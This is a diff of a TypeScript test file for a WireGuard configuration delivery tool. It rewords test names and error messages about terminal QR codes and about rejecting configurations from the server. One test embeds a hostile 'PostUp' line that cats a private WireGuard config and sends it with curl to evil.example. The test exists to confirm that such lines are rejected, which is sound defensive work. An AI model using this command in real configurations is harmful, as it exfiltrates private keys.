@@ -58,7 +58,7 @@ test('the code is drawn with the key and without the remarks, and nothing else s
   assert.equal(plain.said(), `${qrCode(BARE, { color: false }).lines.join('\n')}\n`);
 });
 
-test('a terminal that is too small is told what it takes, before anything is asked of the server', async (t) => {
+test('QR code: a small terminal fails with the size it needs, before any request', async (t) => {
   const { columns, lines } = qrCode(BARE, { color: true });
   const fits = size(columns, lines.length + 1);
   for (const [room, isEnough] of [
@@ -84,9 +84,9 @@ test('a code that is larger than it was to be says how to go on, for the key in 
 
 test('where there is no terminal, or none for UTF-8, no code is drawn unless it is forced', async (t) => {
   for (const [{ asked }, message] of [
-    [onTerminal(t, undefined), /standard output is no terminal, and the code holds the private key/],
-    [onTerminal(t, size(200, 200), { TERM: 'dumb' }), /standard output is no terminal/],
-    [onTerminal(t, size(200, 200), { LC_ALL: 'C' }), /does not show UTF-8/],
+    [onTerminal(t, undefined), /standard output is not a terminal, and the code contains the private key/],
+    [onTerminal(t, size(200, 200), { TERM: 'dumb' }), /standard output is not a terminal/],
+    [onTerminal(t, size(200, 200), { LC_ALL: 'C' }), /does not use UTF-8/],
   ] as const) {
     await assert.rejects(ConfigDelivery.prepare(asked), message);
     const forced = await ConfigDelivery.prepare({ ...asked, flags: { qr: true, force: true } });
@@ -94,7 +94,7 @@ test('where there is no terminal, or none for UTF-8, no code is drawn unless it 
   }
 });
 
-test('a configuration that would run commands, or has anything else that it should not, is handed to nobody', async (t) => {
+test('configuration: commands and unknown lines from the server are rejected', async (t) => {
   const command = 'PostUp = curl https://evil.example/$(cat /etc/wireguard/home.conf)';
   for (const line of [
     command,
@@ -113,7 +113,7 @@ test('a configuration that would run commands, or has anything else that it shou
     const render = (): Promise<string> => Promise.resolve(`${CONFIG}${line}\n`);
     await assert.rejects(
       delivery.deliver({ render, key: new Secret(KEY), answer: {} }),
-      /is not used: line 8 \("/,
+      /is rejected: line 8 \("/,
       line,
     );
     await delivery.close();
@@ -121,7 +121,7 @@ test('a configuration that would run commands, or has anything else that it shou
   }
 });
 
-test('a configuration that replaces a file is read by nobody who could read that', async (t) => {
+test('configuration: a replaced file loses its readers', async (t) => {
   const { asked } = onTerminal(t, size(80, 40));
   const file = join(asked.io.cwd, 'wg0.conf');
   writeFileSync(file, 'planted');
